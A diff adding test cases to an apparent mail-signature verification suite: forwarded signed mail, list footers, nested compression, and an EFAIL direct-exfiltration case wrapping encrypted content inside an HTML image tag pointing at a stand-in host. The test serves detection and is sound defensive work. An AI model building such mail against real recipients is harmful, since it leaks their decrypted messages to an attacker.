@@ -161,6 +161,28 @@ def nested_path(k):
 	return k.signed(inner)
 
 
+def efail(k):
+	"""The encrypted part between halves of an HTML image (EFAIL, direct exfiltration)."""
+	def half(text):
+		return m.text(text, subtype="html")
+	return m.mail(k.outer(), m.multipart([half('<img src="http://e.example/'),
+		enveloped(k, k.content()), half('">')]))
+
+
+def with_footer(k):
+	"""A list's footer beside an opaque signature."""
+	return m.mail(k.outer(), m.multipart([m.opaque(k.content(), k.signer()),
+		m.text("--\nDanh sách thư cán bộ\n")]))
+
+
+def forwarded_signed(k):
+	"""Another agency's signed mail as an attachment of a signed one."""
+	content = k.content()
+	other = m.mail(k.outer(agency="tinh", mid="<goc@hason.example>"), m.signed(m.text("Gốc.\n"),
+		k.signer("tinh")))
+	return k.signed(m.multipart([content, m.entity("message/rfc822", other)]))
+
+
 DIFFERS = doubt("sender", fields=True)
 PARTIAL = dict(status="partial", chain="unknown", sender="unknown")
 NONE = dict(status="none", chain="unknown", sender="unknown")
@@ -228,6 +250,16 @@ TABLE = [
 		good(verdict=["good", "doubt", "bad"], fields={}, office=["registered", "held"])),
 	S("layers-resigned", resigned, "a list signed it again", bad("sender", sender="mismatch")),
 	S("layers-forwarded", forwarded, "sent on as an attachment", doubt("signature", **PARTIAL)),
+	S("layers-forwarded-signed", forwarded_signed, "signed mail of another attached to signed mail",
+		good(verdict=["good", "doubt"], office=["registered", "held"])),
+	S("layers-footer", with_footer, "a footer beside an opaque signature",
+		doubt("signature", "structure", **PARTIAL)),
+	S("layers-efail", efail, "encrypted between halves of an HTML image",
+		doubt("signature", "filetype", encrypted=False, **NONE)),
+	S("layers-compressed-twice", compressed(lambda k: compressed_part(compressed_part(k.content()))),
+		"compressed three times", good()),
+	S("layers-compressed-chain", compressed(lambda k: compressed_part(compressed_part(
+		compressed_part(k.content())))), "compressed four times", doubt("signature")),
 	S("layers-triple", lambda k: k.signed(enveloped(k, m.signed(k.content(), k.signer()))),
 		"signed, encrypted, signed", doubt("signature", encrypted=True)),
 	S("layers-compressed", compressed(), "compressed, then signed", good()),
@@ -310,6 +342,11 @@ CODES = {
 	"layers-altered": ([101, 114], []),
 	"layers-resigned": ([401, 114], [101]),
 	"layers-forwarded": ([202], [101, 114]),
+	"layers-forwarded-signed": ([], [408, 409, 113, 114]),
+	"layers-footer": ([202, 510], [101, 114]),
+	"layers-efail": ([201, 606], [101, 203]),
+	"layers-compressed-twice": ([101, 114], [205]),
+	"layers-compressed-chain": ([205, 114, 606], [101]),
 	"layers-triple": ([203, 114], [101]),
 	"layers-compressed": ([101, 114], [204, 606]),
 	"layers-compressed-pieces": ([101, 114], [204, 606]),
